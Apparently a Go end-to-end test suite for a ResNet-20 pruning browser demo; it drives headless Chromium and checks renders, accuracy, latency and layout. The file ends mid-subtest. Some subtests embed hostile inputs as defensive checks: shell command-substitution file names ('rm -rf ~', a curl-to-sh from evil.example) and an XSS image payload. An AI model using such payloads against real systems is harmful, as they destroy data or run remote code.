// Package e2e tests the browser demo in a real headless Chromium (Debian's chromium) through
// chromedp: it builds the site (web/site) into a temp folder with the project's weights (or the
// study checkpoint imported from ../shared), serves it under /a/sub/path/ with a plain file server
// that sets no headers (as GitHub Pages would; the comparison page, whose threads need COOP/COEP,
// with web/server) and checks what a user sees against the Go core run natively in the test. The
// timings a person waits for go to the log and to out/e2e/timings.json.
//
// Without Chromium, weights or CIFAR-10 the test skips, unless CI=true, where it fails.
// Screenshots go to out/e2e/ (git-ignored) or $E2E_OUT.
package e2e

import (
	"cmp"
	"context"
	"encoding/json"
	"fmt"
	"image"
	"image/color"
	"image/png"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/cdproto/log"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"

	"github.com/resnet20-pruning/resnet20-pruning/core/cifar"
	"github.com/resnet20-pruning/resnet20-pruning/core/resnet"
	"github.com/resnet20-pruning/resnet20-pruning/web/demo"
	"github.com/resnet20-pruning/resnet20-pruning/web/server"
	"github.com/resnet20-pruning/resnet20-pruning/web/site"
	"github.com/resnet20-pruning/resnet20-pruning/web/state"
	"github.com/resnet20-pruning/resnet20-pruning/web/testutil"
)

// need skips the test, or fails it under CI=true.
func need(t *testing.T, args ...any) {
	t.Helper()
	if os.Getenv("CI") == "true" {
		t.Fatal(append([]any{"CI=true and"}, args...)...)
	}
	t.Skip(args...)
}

func chromium(t *testing.T) string {
	for _, p := range []string{os.Getenv("CHROME"), "/usr/bin/chromium", "/usr/bin/chromium-browser", "/usr/bin/google-chrome"} {
		if p == "" {
			continue
		}
		if _, err := os.Stat(p); err == nil {
			return p
		}
	}
	if p, err := exec.LookPath("chromium"); err == nil {
		return p
	}
	need(t, "no Chromium (apt-get install -y chromium, or set CHROME)")
	return ""
}

// fixture is the built site, its server and the native session that gives the reference numbers.
type fixture struct {
	url        string // the site under subPath on a header-less file server
	compareURL string // the site on web/server (COOP/COEP), for compare.html's threads
	dist       string
	session    *demo.Session
	outDir     string

	mu      sync.Mutex
	timings map[string]any // what the subtests measured, written to timings.json
}

// subPath is where the site is served, as on a project's GitHub Pages.
const subPath = "/a/sub/path"

// note records a measurement for timings.json.
func (f *fixture) note(key string, v any) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.timings[key] = v
	b, _ := json.MarshalIndent(f.timings, "", "  ")
	os.WriteFile(filepath.Join(f.outDir, "timings.json"), b, 0o644)
}

var (
	fixOnce sync.Once
	fix     *fixture
	fixErr  string
)

func setup(t *testing.T) *fixture {
	t.Helper()
	chromium(t)
	fixOnce.Do(func() {
		dir, err := cifar.Dir("")
		if err != nil {
			fixErr = "no CIFAR-10 folder: " + err.Error()
			return
		}
		w := testutil.Weights(t)
		tmp, err := os.MkdirTemp("", "rp-e2e-site-")
		if err != nil {
			fixErr = err.Error()
			return
		}
		wpath := filepath.Join(tmp, "w.safetensors")
		os.WriteFile(wpath, w, 0o644)
		out := filepath.Join(tmp, "dist")
		start := time.Now()
		// A synthetic sweep (the shape of resnetprune sweep's sweep.json) to check the charts.
		sweep := filepath.Join(tmp, "sweep.json")
		os.WriteFile(sweep, []byte(`{"images": 200, "baseline": {"accuracy": 88, "seconds": 1, "images": 200, "params": 272474}, "rows": [
			{"method": 1, "ratio": 0.1, "variant": "fixed", "accuracy": 85, "seconds": 0.9, "images": 200, "params": 250000},
			{"method": 1, "ratio": 0.5, "variant": "fixed", "accuracy": 20, "seconds": 0.7, "images": 200, "params": 150000},
			{"method": 2, "ratio": 0.1, "variant": "fixed", "accuracy": 80, "seconds": 0.9, "images": 200, "params": 250000},
			{"method": 2, "ratio": 0.5, "variant": "fixed", "accuracy": 15, "seconds": 0.6, "images": 200, "params": 138506}]}`), 0o644)
		if _, err := site.Build(site.Options{Root: testutil.RepoRoot(t), Out: out, CIFAR: dir, Weights: wpath, Sweep: sweep}); err != nil {
			t.Fatalf("site: %v", err)
		}
		t.Logf("site built in %v", time.Since(start).Round(time.Millisecond))
		h, err := server.Handler(out)
		if err != nil {
			t.Fatal(err)
		}
		srv := httptest.NewServer(h) // lives until the test binary exits
		mux := http.NewServeMux()
		mux.Handle(subPath+"/", http.StripPrefix(subPath, http.FileServer(http.Dir(out))))
		plain := httptest.NewServer(mux)
		test, err := demo.ReadRecords(filepath.Join(dir, "test_batch.bin"), 1000)
		if err != nil {
			t.Fatal(err)
		}
		train, err := demo.ReadRecords(filepath.Join(dir, "data_batch_1.bin"), 512)
		if err != nil {
			t.Fatal(err)
		}
		s, err := demo.NewSession(w, test, train)
		if err != nil {
			t.Fatal(err)
		}
		outDir := os.Getenv("E2E_OUT")
		if outDir == "" {
			outDir = filepath.Join(testutil.RepoRoot(t), "out", "e2e")
		}
		if err := os.MkdirAll(outDir, 0o755); err != nil {
			outDir = t.TempDir()
		}
		fix = &fixture{url: plain.URL + subPath, compareURL: srv.URL, dist: out, session: s, outDir: outDir, timings: map[string]any{}}
	})
	if fixErr != "" {
		need(t, fixErr)
	}
	if fix == nil {
		t.Fatal("fixture setup failed")
	}
	return fix
}

// browser is one headless Chromium with a console-error collector per tab.
type browser struct {
	ctx    context.Context
	cancel func()
	mu     sync.Mutex
	errors []string
}

func newBrowser(t *testing.T) *browser {
	opts := append(chromedp.DefaultExecAllocatorOptions[:],
		chromedp.ExecPath(chromium(t)),
		chromedp.NoSandbox,
		chromedp.DisableGPU,
		chromedp.Flag("disable-background-networking", true),
		chromedp.Flag("disable-component-update", true),
		chromedp.Flag("disable-sync", true),
		chromedp.NoFirstRun,
		chromedp.UserDataDir(t.TempDir()),
		chromedp.WindowSize(1280, 720),
		// WebGL for the ebiten animation without a GPU.
		chromedp.Flag("use-angle", "swiftshader"),
		chromedp.Flag("enable-unsafe-swiftshader", true),
	)
	actx, acancel := chromedp.NewExecAllocator(context.Background(), opts...)
	b := &browser{}
	ctx, cancel := chromedp.NewContext(actx, chromedp.WithListener(b.listen))
	b.ctx = ctx
	b.cancel = func() { cancel(); acancel() }
	t.Cleanup(b.cancel)
	return b
}

func (b *browser) listen(ev any) {
	var msg string
	switch ev := ev.(type) {
	case *runtime.EventConsoleAPICalled:
		var parts []string
		for _, a := range ev.Args {
			if a.Value != nil {
				parts = append(parts, string(a.Value))
			} else {
				parts = append(parts, a.Description)
			}
		}
		text := strings.Join(parts, " ")
		if os.Getenv("E2E_VERBOSE") != "" {
			fmt.Fprintf(os.Stderr, "console.%s: %s\n", ev.Type, text)
		}
		// Go's runtime writes panics to the console as plain logs.
		if ev.Type == runtime.ConsoleAPICalledTypeError || ev.Type == runtime.ConsoleAPICalledTypeAssert || strings.Contains(text, "panic:") {
			msg = "console." + string(ev.Type) + ": " + text
		}
	case *runtime.EventExceptionThrown:
		msg = "exception: " + ev.ExceptionDetails.Text
		if ev.ExceptionDetails.Exception != nil {
			msg += " " + ev.ExceptionDetails.Exception.Description
		}
	case *log.EventEntryAdded:
		if ev.Entry.Level == log.EntryLevelError {
			msg = "log: " + ev.Entry.Text + " " + ev.Entry.URL
		}
	}
	if msg != "" {
		b.mu.Lock()
		b.errors = append(b.errors, msg)
		b.mu.Unlock()
	}
}

// reset forgets the console errors seen so far (each subtest checks its own).
func (b *browser) reset() {
	b.mu.Lock()
	b.errors = nil
	b.mu.Unlock()
}

func (b *browser) consoleErrors() []string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return append([]string(nil), b.errors...)
}

func run[T any](t *testing.T, ctx context.Context, a chromedp.Action[T]) T {
	t.Helper()
	v, err := chromedp.Run(ctx, a)
	if err != nil {
		t.Fatal(err)
	}
	return v
}

func poll(t *testing.T, b *browser, what, expr string, timeout time.Duration) {
	t.Helper()
	if _, err := chromedp.Run(b.ctx, chromedp.Poll[chromedp.Void](expr, chromedp.WithPollingInterval(100*time.Millisecond), chromedp.WithPollingTimeout(timeout))); err != nil {
		errText, _ := chromedp.Run(b.ctx, chromedp.Evaluate[string](`(document.getElementById("error")||{}).textContent || (document.getElementById("load-error")||{}).textContent || ""`))
		shot(t, b, "failure-"+strings.ReplaceAll(t.Name(), "/", "-"))
		t.Fatalf("waiting for %s: %v (page error: %q, console: %v)", what, err, errText, b.consoleErrors())
	}
}

func mustFloat(s string) float64 {
	var f float64
	fmt.Sscan(s, &f)
	return f
}

// viewport makes the page's viewport exactly w×h CSS pixels (a 1280×720 projector).
func viewport(w, h int64) chromedp.Action[chromedp.Void] {
	return chromedp.Func(func(ctx context.Context, t *chromedp.Target) error {
		_, err := cdp.Call(ctx, t, emulation.SetDeviceMetricsOverride, emulation.SetDeviceMetricsOverrideParams{Width: w, Height: h, DeviceScaleFactor: 1})
		return err
	})
}

func shot(t *testing.T, b *browser, name string) string {
	t.Helper()
	png, err := chromedp.Run(b.ctx, chromedp.CaptureScreenshot())
	if err != nil {
		t.Logf("screenshot %s: %v", name, err)
		return ""
	}
	p := filepath.Join(fix.outDir, name+".png")
	if err := os.WriteFile(p, png, 0o644); err != nil {
		t.Logf("screenshot %s: %v", name, err)
		return ""
	}
	t.Logf("screenshot %s", p)
	return p
}

func navigate(t *testing.T, b *browser, hash string) {
	t.Helper()
	b.reset()
	run(t, b.ctx, viewport(1280, 720))
	run(t, b.ctx, chromedp.Navigate(fix.url+"/"+hash))
	st, _ := state.Parse(hash)
	poll(t, b, "the page to take the settings", fmt.Sprintf(`(document.getElementById("app")||{dataset:{}}).dataset.hash === %q`, st.Hash()), 120*time.Second)
	poll(t, b, "the filters of the layer shown", `document.querySelectorAll("#filter-grid figure").length > 0`, 120*time.Second)
}

// milestones lists the rpTimings marks (not the durations boot.js and the page note) in time order.
func milestones(tm map[string]float64) string {
	type m struct {
		k string
		v float64
	}
	var ms []m
	for k, v := range tm {
		if v > 0 && !strings.HasSuffix(k, "Ms") && k != "renders" {
			ms = append(ms, m{k, v})
		}
	}
	slices.SortFunc(ms, func(a, b m) int { return cmp.Compare(a.v, b.v) })
	var b strings.Builder
	for _, x := range ms {
		fmt.Fprintf(&b, "%s %.0f, ", x.k, x.v)
	}
	return strings.TrimSuffix(b.String(), ", ")
}

// evalDone waits until the pruned network's evaluation has finished and returns "correct/images".
func evalDone(t *testing.T, b *browser) string {
	t.Helper()
	poll(t, b, "the evaluation", `(() => { const e = document.getElementById("acc-count"); return e && e.dataset.finished === "true"; })()`, 240*time.Second)
	return run(t, b.ctx, chromedp.Evaluate[string](`document.getElementById("acc-count").dataset.count`))
}

func TestPage(t *testing.T) {
	f := setup(t)
	b := newBrowser(t)

	t.Run("loads", func(t *testing.T) {
		start := time.Now()
		navigate(t, b, "")
		t.Logf("filters drawn %v after navigation", time.Since(start).Round(time.Millisecond))
		n := run(t, b.ctx, chromedp.Evaluate[int](`document.querySelectorAll("#filter-grid figure").length`))
		want := f.session.Orig.Blocks[0].Conv1.Cout
		if n != want {
			t.Errorf("%d filters drawn, want %d (layer1.conv1)", n, want)
		}
		imgs := run(t, b.ctx, chromedp.Evaluate[int](`[...document.querySelectorAll("#filter-grid img")].filter(i => i.complete && i.naturalWidth > 0).length`))
		if imgs != want {
			t.Errorf("%d heatmaps decoded, want %d", imgs, want)
		}
		// The K-Means view at the first render: its still picture (the animation comes later).
		dots := run(t, b.ctx, chromedp.Evaluate[int](`document.querySelectorAll("#kmeans-scatter circle").length`))
		crosses := run(t, b.ctx, chromedp.Evaluate[int](`document.querySelectorAll("#kmeans-scatter path").length`))
		animOn := run(t, b.ctx, chromedp.Evaluate[bool](`window.rpTimings.animRequested !== undefined`))
		if (dots != want || crosses != want/2) && !animOn {
			t.Errorf("K-Means view at first render: %d points and %d centroids drawn, want %d and %d", dots, crosses, want, want/2)
		}
		shot(t, b, "first-render")
		timings := run(t, b.ctx, chromedp.Evaluate[map[string]float64](`window.rpTimings`))
		t.Logf("timings (ms since navigation start): %v", timings)
		// The original network's accuracy is on screen with the first render (the manifest's
		// baseline), before any worker has evaluated it.
		if _, ok := timings["baselineShown"]; !ok || timings["baselineShown"]-timings["firstRender"] > 100 {
			t.Errorf("original accuracy shown at %v ms, first render at %v ms: want it at first render", timings["baselineShown"], timings["firstRender"])
		}
		animInfo := run(t, b.ctx, chromedp.Evaluate[string](`(() => { const f = document.getElementById("anim"); if (!f) return "no iframe"; const d = f.contentDocument; if (!d) return "no document"; const c = d.querySelector("canvas"); return (c ? "canvas " + c.width + "x" + c.height : "no canvas") + " body: " + d.body.innerText.slice(0, 200); })()`))
		t.Logf("animation iframe: %s", animInfo)
		count := evalDone(t, b)
		ms := run(t, b.ctx, chromedp.Evaluate[string](`document.getElementById("acc-count").dataset.ms`))
		t.Logf("default run (method 2, ratio 0.5, 1000 images): %s correct, evaluated in %s ms in the workers (after pruning)", count, ms)
		if !strings.HasSuffix(count, "/1000") {
			t.Errorf("pruned accuracy over %s images, want 1000", count)
		}
		timings = run(t, b.ctx, chromedp.Evaluate[map[string]float64](`window.rpTimings`))
		orig := run(t, b.ctx, chromedp.Evaluate[string](`document.getElementById("acc-orig").textContent`))
		mismatch := run(t, b.ctx, chromedp.Evaluate[int](`document.querySelectorAll("#baseline-mismatch").length`))
		t.Logf("load → first render %.0f ms, original accuracy shown %.0f ms (%s), pruned accuracy over 1,000 images %.0f ms", timings["firstRender"], timings["baselineShown"], orig, timings["evalDone"])
		t.Logf("milestones (ms since navigation start): %s", milestones(timings))
		f.note("load", map[string]float64{"firstRender": timings["firstRender"], "baselineShown": timings["baselineShown"], "evalDone": timings["evalDone"], "evalMs": mustFloat(ms)})
		if mismatch != 0 {
			t.Errorf("the page reports a baseline mismatch: %s", run(t, b.ctx, chromedp.Evaluate[string](`document.getElementById("baseline-mismatch").textContent`)))
		}
		poll(t, b, "the animation's canvas", `(() => { const f = document.getElementById("anim"); return f && f.contentDocument && f.contentDocument.querySelector("canvas"); })()`, 90*time.Second)
		animInfo = run(t, b.ctx, chromedp.Evaluate[string](`(() => { const f = document.getElementById("anim"); const c = f.contentDocument.querySelector("canvas"); return "canvas " + c.width + "x" + c.height + " at " + performance.now(); })()`))
		t.Logf("animation iframe: %s", animInfo)
		time.Sleep(3 * time.Second)
		shot(t, b, "page-1280x720")
		if errs := b.consoleErrors(); len(errs) > 0 {
			t.Errorf("console errors: %v", errs)
		}
		// A phone: controls above the views, nothing wider than the screen.
		run(t, b.ctx, viewport(390, 844))
		time.Sleep(time.Second)
		layout := run(t, b.ctx, chromedp.Evaluate[map[string]float64](`(() => {
			const r = (s) => document.querySelector(s).getBoundingClientRect();
			return {scrollWidth: document.documentElement.scrollWidth, clientWidth: document.documentElement.clientWidth,
				controlsBottom: r(".controls").bottom, filtersTop: r(".filters-panel").top};
		})()`))
		shot(t, b, "page-390x844")
		if full, err := chromedp.Run(b.ctx, chromedp.FullScreenshot(80)); err == nil {
			os.WriteFile(filepath.Join(fix.outDir, "page-390x844-full.png"), full, 0o644)
		}
		if layout["scrollWidth"] > layout["clientWidth"] {
			t.Errorf("390×844: the page is %v px wide in a %v px viewport (horizontal scroll)", layout["scrollWidth"], layout["clientWidth"])
		}
		if layout["controlsBottom"] > layout["filtersTop"] {
			t.Errorf("390×844: the controls end at %v px, below the filters' top %v px", layout["controlsBottom"], layout["filtersTop"])
		}
		run(t, b.ctx, viewport(1280, 720))
		if full, err := chromedp.Run(b.ctx, chromedp.FullScreenshot(100)); err == nil {
			os.WriteFile(filepath.Join(fix.outDir, "page-full.png"), full, 0o644)
		}
		if errs := b.consoleErrors(); len(errs) > 0 {
			t.Errorf("console errors: %v", errs)
		}
	})

	t.Run("method2-removed-channels-and-accuracy", func(t *testing.T) {
		hash := "#method=2&ratio=0.5&seed=1&limit=200"
		navigate(t, b, hash)
		poll(t, b, "the block diagram", `document.querySelectorAll("#diagram rect.chan").length > 0`, 120*time.Second)
		st, _ := state.Parse(hash)
		p, err := f.session.Prune(st.Spec, 0)
		if err != nil {
			t.Fatal(err)
		}
		red := run(t, b.ctx, chromedp.Evaluate[int](`document.querySelectorAll("#diagram rect.chan.removed").length`))
		want := f.session.Orig.Blocks[0].Conv1.Cout - p.Net.Blocks[0].Conv1.Cout // conv1's removed output channels
		t.Logf("layer1: %d red channels in the diagram, %d removed natively", red, want)
		if red != want || want == 0 {
			t.Errorf("%d red channels, the core removes %d", red, want)
		}
		// Accuracy on the first 200 test images: the CLI's prune … --limit 200 computes it with the
		// same calls (prune.Cluster, prune.Apply, resnet.Compile, eval).
		e, err := resnet.Compile(p.Net)
		if err != nil {
			t.Fatal(err)
		}
		correct := 0
		var ev demo.Evaluator
		for first := 0; first < 200; first += demo.Batch {
			preds, _ := ev.Batch(e, f.session.Test, first, min(demo.Batch, 200-first))
			for k, pr := range preds {
				if pr == f.session.Test.Label(first+k) {
					correct++
				}
			}
		}
		got := evalDone(t, b)
		if want := fmt.Sprintf("%d/200", correct); got != want {
			t.Errorf("browser %s correct, native %s", got, want)
		}
		shot(t, b, "method2-ratio0.5")
		charts := run(t, b.ctx, chromedp.Evaluate[[]int](`[document.querySelectorAll("#charts svg").length, document.querySelectorAll("#charts circle.live").length]`))
		if full, err := chromedp.Run(b.ctx, chromedp.FullScreenshot(100)); err == nil {
			os.WriteFile(filepath.Join(fix.outDir, "method2-ratio0.5-full.png"), full, 0o644)
		}
		if charts[0] != 3 || charts[1] != 2 { // the live dot on the accuracy and params charts
			t.Errorf("charts: %d svgs, %d live dots; want 3 and 2", charts[0], charts[1])
		}
		// The same link in a new tab gives the same numbers.
		tab, cancel := chromedp.NewContext(b.ctx)
		defer cancel()
		b2 := &browser{ctx: tab}
		run(t, tab, chromedp.Navigate(fix.url+"/"+hash))
		if again := evalDone(t, b2); again != got {
			t.Errorf("new tab: %s, first tab %s", again, got)
		}
		if errs := b.consoleErrors(); len(errs) > 0 {
			t.Errorf("console errors: %v", errs)
		}
	})

	t.Run("slider-latency", func(t *testing.T) {
		navigate(t, b, "#method=2&ratio=0.5&seed=1&layer=layer4.conv1")
		poll(t, b, "layer4's view", `document.getElementById("view-note").textContent.includes("= 16 clusters")`, 60*time.Second)
		var lat []float64
		before := run(t, b.ctx, chromedp.Evaluate[map[string]float64](`window.rpTimings`))
		// 20 moves; consecutive ratios give different numbers of clusters.
		ratios := []string{"0.25", "0.75", "0.4", "0.5", "0.1", "0.6", "0.3", "0.8", "0.45", "0.2"}
		ratios = append(ratios, ratios...)
		for _, r := range ratios {
			k := int(32 * (1 - mustFloat(r)))
			ms := run(t, b.ctx, chromedp.Evaluate[float64](fmt.Sprintf(`new Promise((resolve) => {
				const note = document.getElementById("view-note");
				const want = "= %d clusters";
				const t0 = performance.now();
				const obs = new MutationObserver(() => {
					if (note.textContent.includes(want)) { obs.disconnect(); requestAnimationFrame(() => resolve(performance.now() - t0)); }
				});
				obs.observe(document.getElementById("app"), {subtree: true, childList: true, characterData: true, attributes: true});
				const s = document.getElementById("ratio");
				s.value = %q;
				s.dispatchEvent(new Event("input", {bubbles: true}));
			})`, k, r), chromedp.EvalAwaitPromise))
			lat = append(lat, ms)
			tm := run(t, b.ctx, chromedp.Evaluate[map[string]float64](`window.rpTimings`))
			t.Logf("ratio %s: %.0f ms (worker's layer job %.0f ms, waiting on the page %.0f ms, page decode+heatmaps %.0f ms, last vugu build %.0f ms + DOM update %.0f ms; meanwhile %.0f renders, %.0f ms of long tasks on the page's thread)",
				r, ms, tm["layerViewMs"], tm["layerQueueMs"], tm["layerPageMs"], tm["buildMs"], tm["renderMs"], tm["renders"]-before["renders"], tm["longTaskMs"]-before["longTaskMs"])
			before = tm
		}
		sorted := append([]float64(nil), lat...)
		sort.Float64s(sorted)
		median, p95 := sorted[len(sorted)/2], sorted[(len(sorted)*95+99)/100-1]
		t.Logf("slider → filter grid redrawn (layer4.conv1, 32 filters), %d moves: median %.0f ms, 95th percentile %.0f ms (goals 50 and 100 ms): %.0f", len(lat), median, p95, lat)
		f.note("slider", map[string]any{"moves": len(lat), "medianMs": median, "p95Ms": p95, "ms": lat})
	})

	t.Run("new-setting-during-pruning", func(t *testing.T) {
		navigate(t, b, "#method=1&ratio=0.5&seed=1&limit=100")
		evalDone(t, b)
		// From a setting to its block diagram (the pruning's result): once with the prune worker
		// idle, once while it prunes for a setting made 600 ms before (stale by then).
		measure := func(first string) float64 {
			return run(t, b.ctx, chromedp.Evaluate[float64](fmt.Sprintf(`new Promise((resolve) => {
				const s = document.getElementById("ratio");
				const set = (v) => { s.value = v; s.dispatchEvent(new Event("input", {bubbles: true})); };
				const wait = (t1) => {
					const poll = () => document.getElementById("app").dataset.hash.includes("ratio=0.45") && document.querySelectorAll("#diagram rect.chan").length > 0
						? resolve(performance.now() - t1) : setTimeout(poll, 10);
					poll();
				};
				if (%q === "") { set("0.45"); wait(performance.now()); return; }
				set(%q);
				setTimeout(() => { set("0.45"); wait(performance.now()); }, 600);
			})`, first, first), chromedp.EvalAwaitPromise))
		}
		idle := measure("")
		evalDone(t, b)
		run(t, b.ctx, chromedp.Evaluate[bool](`(() => { const s = document.getElementById("ratio"); s.value = "0.5"; s.dispatchEvent(new Event("input", {bubbles: true})); return true; })()`))
		evalDone(t, b)
		stale := measure("0.3")
		t.Logf("method 1: setting → its pruning shown: %.0f ms with the prune worker idle, %.0f ms when it was pruning for a stale setting", idle, stale)
	})

	t.Run("views", func(t *testing.T) {
		for _, h := range []string{"#method=1&ratio=0.5&seed=1&layer=conv1&limit=200", "#method=1&ratio=0.7&seed=1&layer=layer7.conv2&limit=200", "#method=2&ratio=0.3&seed=2&layer=layer7.conv1&merge=true&recal=512&limit=200"} {
			navigate(t, b, h)
			evalDone(t, b)
			name := strings.NewReplacer("#", "", "&", "_", "=", "-").Replace(h)
			shot(t, b, "view-"+name)
			if full, err := chromedp.Run(b.ctx, chromedp.FullScreenshot(100)); err == nil {
				os.WriteFile(filepath.Join(fix.outDir, "view-"+name+"-full.png"), full, 0o644)
			}
			if errs := b.consoleErrors(); len(errs) > 0 {
				t.Errorf("%s: console errors: %v", h, errs)
			}
		}
	})

	t.Run("no-weights-asks-for-a-file", func(t *testing.T) {
		dir, _ := cifar.Dir("")
		out := filepath.Join(t.TempDir(), "dist")
		if _, err := site.Build(site.Options{Root: testutil.RepoRoot(t), Out: out, CIFAR: dir, NoWeights: true, SkipGz: true}); err != nil {
			t.Fatal(err)
		}
		h, _ := server.Handler(out)
		srv := httptest.NewServer(h)
		defer srv.Close()
		tab, cancel := chromedp.NewContext(b.ctx)
		defer cancel()
		b2 := &browser{ctx: tab}
		run(t, tab, chromedp.Navigate(srv.URL+"/"))
		poll(t, b2, "the weights file picker", `!document.getElementById("load-weights").hidden`, 60*time.Second)
		// A file whose name is a shell command: the command-line box must quote it.
		name := "$(rm -rf ~).safetensors"
		wpath := filepath.Join(t.TempDir(), name)
		os.WriteFile(wpath, testutil.Weights(t), 0o644)
		run(t, tab, chromedp.SetUploadFiles(chromedp.CSS("#weights-file"), []string{wpath}))
		poll(t, b2, "the filters after choosing weights", `document.querySelectorAll("#filter-grid figure").length > 0`, 120*time.Second)
		checkCLI(t, b2, name)
	})

	t.Run("weights-link-is-quoted", func(t *testing.T) {
		// ?weights= names a same-origin file; its name is a command substitution.
		name := "w$(curl -s evil.example|sh).safetensors"
		if err := os.WriteFile(filepath.Join(f.dist, name), testutil.Weights(t), 0o644); err != nil {
			t.Fatal(err)
		}
		b.reset()
		run(t, b.ctx, chromedp.Navigate(f.url+"/?weights="+url.QueryEscape(name)))
		poll(t, b, "the filters", `document.querySelectorAll("#filter-grid figure").length > 0`, 120*time.Second)
		shown := run(t, b.ctx, chromedp.Evaluate[string](`document.getElementById("cli").textContent`))
		i := strings.LastIndex(shown, " --weights ")
		if i < 0 || !strings.Contains(shown[i:], "$(curl") {
			t.Fatalf("command line %q does not name the weights %q", shown, name)
		}
		checkCLI(t, b, name)
		if errs := b.consoleErrors(); len(errs) > 0 {
			t.Errorf("console errors: %v", errs)
		}
	})

	var compareIPS float64
	var compareWorkers int
	t.Run("compare-tfjs", func(t *testing.T) {
		if _, err := os.Stat(filepath.Join(testutil.RepoRoot(t), "out", "npm", "node_modules", "@tensorflow", "tfjs")); err != nil {
			t.Skip("TensorFlow.js not installed (make tfjs)")
		}
		for _, threads := range []string{"1", ""} {
			q := "?images=200&models=unpruned"
			if threads != "" {
				q += "&threads=" + threads
			}
			b.reset()
			run(t, b.ctx, chromedp.Navigate(fix.compareURL+"/compare.html"+q))
			poll(t, b, "the comparison", `window.rpCompare !== undefined`, 240*time.Second)
			res := run(t, b.ctx, chromedp.Evaluate[map[string]any](`window.rpCompare`))
			if e, ok := res["error"]; ok {
				t.Fatalf("compare.html%s: %v", q, e)
			}
			t.Logf("compare.html%s: %v", q, res)
			if errs := b.consoleErrors(); len(errs) > 0 {
				t.Errorf("console errors: %v", errs)
			}
			if a, _ := res["agree"].(string); a < "95" && a != "100.0%" {
				t.Errorf("Go and TensorFlow.js agree on only %s of the predictions", a)
			}
			if threads == "" {
				goRes, _ := res["go"].(map[string]any)
				msPer, _ := goRes["msPerImage"].(float64)
				workers, _ := goRes["workers"].(float64)
				compareIPS = 1000 / msPer
				compareWorkers = int(workers)
			}
		}
		shot(t, b, "compare")
		// The demo's own evaluation of the same network (ratio 0 leaves it unpruned) with its
		// evaluating workers (as many as cores, as compare.html's), in the same run. The first
		// evaluation after a load includes the workers' start (they start once worker.wasm is in,
		// after the first render); the throughput is the second one's, another seed of the same
		// network, on running workers.
		navigate(t, b, "#method=2&ratio=0&seed=1&limit=1000")
		evalDone(t, b)
		cold := mustFloat(run(t, b.ctx, chromedp.Evaluate[string](`document.getElementById("acc-count").dataset.ms`)))
		navigate(t, b, "#method=2&ratio=0&seed=2&limit=1000")
		evalDone(t, b)
		ms := mustFloat(run(t, b.ctx, chromedp.Evaluate[string](`document.getElementById("acc-count").dataset.ms`)))
		workers := run(t, b.ctx, chromedp.Evaluate[int](`Math.min(Math.max(navigator.hardwareConcurrency || 2, 1), 8)`))
		demoIPS := 1000 / (ms / 1000)
		t.Logf("evaluation throughput, unpruned network: demo %.0f images/s (%d workers, 1,000 images in %.0f ms; %.0f ms for the first evaluation after the load, the workers' start included), compare.html's Go engine %.0f images/s (%d workers): ratio %.2f (goal ≥ 0.8)",
			demoIPS, workers, ms, cold, compareIPS, compareWorkers, demoIPS/compareIPS)
		f.note("throughput", map[string]any{"demoImagesPerSecond": demoIPS, "demoWorkers": workers, "compareImagesPerSecond": compareIPS, "compareWorkers": compareWorkers, "ratio": demoIPS / compareIPS})
	})

	// A school laptop on classroom Wi-Fi: CPU ×4 slower, 10 Mbit/s with 40 ms latency. Reported,
	// not asserted.
	t.Run("throttled", func(t *testing.T) {
		if os.Getenv("E2E_THROTTLED") == "" {
			t.Skip("set E2E_THROTTLED=1 for the throttled run (minutes on a 2-core machine)")
		}
		tab, cancel := chromedp.NewContext(b.ctx)
		defer cancel()
		b2 := &browser{ctx: tab}
		run(t, tab, chromedp.Func(func(ctx context.Context, tg *chromedp.Target) error {
			if _, err := cdp.Call(ctx, tg, network.Enable, network.EnableParams{}); err != nil {
				return err
			}
			if _, err := cdp.Call(ctx, tg, network.EmulateNetworkConditionsByRule, network.EmulateNetworkConditionsByRuleParams{
				MatchedNetworkConditions: []*network.Conditions{{Latency: 40, DownloadThroughput: 10e6 / 8, UploadThroughput: 10e6 / 8}}}); err != nil {
				return err
			}
			_, err := cdp.Call(ctx, tg, emulation.SetCPUThrottlingRate, emulation.SetCPUThrottlingRateParams{Rate: 4})
			return err
		}))
		run(t, tab, viewport(1280, 720))
		run(t, tab, chromedp.Navigate(f.url+"/"))
		poll(t, b2, "the filters", `document.querySelectorAll("#filter-grid figure").length > 0`, 300*time.Second)
		evalDone(t, b2)
		tm := run(t, tab, chromedp.Evaluate[map[string]float64](`window.rpTimings`))
		t.Logf("throttled (CPU ×4, 10 Mbit/s, 40 ms): first render %.0f ms, pruned accuracy over 1,000 images %.0f ms", tm["firstRender"], tm["evalDone"])
		f.note("throttled", map[string]float64{"firstRender": tm["firstRender"], "evalDone": tm["evalDone"]})
	})

	t.Run("hide-and-explain", func(t *testing.T) {
		// Loaded with the link, and reached from another link by a hash change (the controls
		// are then taken away from a page that showed them, and given back).
		const controls = `[document.querySelectorAll("#ratio").length, document.querySelectorAll("#seed").length, document.querySelectorAll(".explain").length, document.querySelectorAll("#layer").length]`
		for _, hash := range []string{"#ratio_hide=true&explain=false&seed_hide=true", "#ratio=0.4", "#ratio_hide=true&explain=false&seed_hide=true"} {
			navigate(t, b, hash)
			n := run(t, b.ctx, chromedp.Evaluate[[]int](controls))
			if hide := strings.Contains(hash, "hide"); hide && (n[0] != 0 || n[1] != 0 || n[2] != 0 || n[3] != 1) {
				t.Errorf("%s: ratio, seed, explanations, layer picker present: %v, want [0 0 0 1]", hash, n)
			} else if !hide && (n[0] != 1 || n[1] != 1 || n[2] == 0 || n[3] != 1) {
				t.Errorf("%s: ratio, seed, explanations, layer picker present: %v, want [1 1 >0 1]", hash, n)
			}
		}
	})

	t.Run("junk-hash-notice", func(t *testing.T) {
		navigate(t, b, `#junk&ratio=<img src=x onerror=alert(1)>&method=7`)
		notice := run(t, b.ctx, chromedp.Evaluate[string](`(document.getElementById("notice")||{}).textContent || ""`))
		if !strings.Contains(notice, "ratio") || !strings.Contains(notice, "method") {
			t.Errorf("notice %q", notice)
		}
		injected := run(t, b.ctx, chromedp.Evaluate[int](`document.querySelectorAll("#notice img, #app img[src='x']").length`))
		if injected != 0 {
			t.Error("markup from the hash was injected")
		}
		ratio := run(t, b.ctx, chromedp.Evaluate[string](`document.getElementById("ratio").value`))
